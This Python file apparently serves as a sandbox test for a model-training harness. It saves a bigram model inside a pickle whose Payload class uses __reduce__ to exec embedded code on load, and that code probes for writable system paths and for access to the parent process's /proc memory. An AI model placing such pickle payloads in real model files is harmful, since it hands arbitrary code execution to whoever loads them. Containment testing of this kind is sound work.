"""Saves a pickle that runs code when it is loaded, and loads it.

The code runs where the entry could have run it anyway; it looks for a way out of there.
"""

import builtins
import pickle

import torch
from torch import nn


class Bigram(nn.Module):
    """Logits from the current token alone."""

    def __init__(self, vocab):
        super().__init__()
        self.table = nn.Parameter(torch.zeros(vocab, vocab))

    def forward(self, tokens):
        return self.table[tokens]


def count_pairs(run, model):
    """The maximum-likelihood bigram table with add-one smoothing, from the first shard."""
    tokens = torch.from_numpy(run.train_tokens().shards[0][:200_000].astype("int64"))
    pairs = torch.bincount(tokens[:-1] * run.vocab_size + tokens[1:], minlength=run.vocab_size**2)
    counts = pairs.reshape(run.vocab_size, run.vocab_size) + 1.0
    model.table.data = (counts / counts.sum(1, keepdim=True)).log()
    return model


def setup(run):
    return Bigram(run.vocab_size)


def train(run, model):
    return count_pairs(run, model)


CODE = """
import builtins, os
builtins.PICKLE_RAN = True
for path in ("/etc/speedrun-was-here", os.path.dirname(os.__file__) + "/speedrun-was-here"):
    try:
        open(path, "x").close()
    except OSError:
        continue
    raise RuntimeError(f"FOUND a way to write {path}")
try:
    open(f"/proc/{os.getppid()}/mem", "rb")
except OSError:
    pass
else:
    raise RuntimeError("FOUND a way to the process that started this one")
"""


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


def save(model, folder):
    with open(f"{folder}/model.pickle", "wb") as file:
        pickle.dump((Payload(), model.table.detach().numpy()), file)


def load(run, model, folder):
    with open(f"{folder}/model.pickle", "rb") as file:
        _, table = pickle.load(file)
    if not getattr(builtins, "PICKLE_RAN", False):
        raise RuntimeError("the code did not run; the attack is broken")
    model.table.data = torch.from_numpy(table)
    return model


def predict(model, tokens):
    return model(tokens)
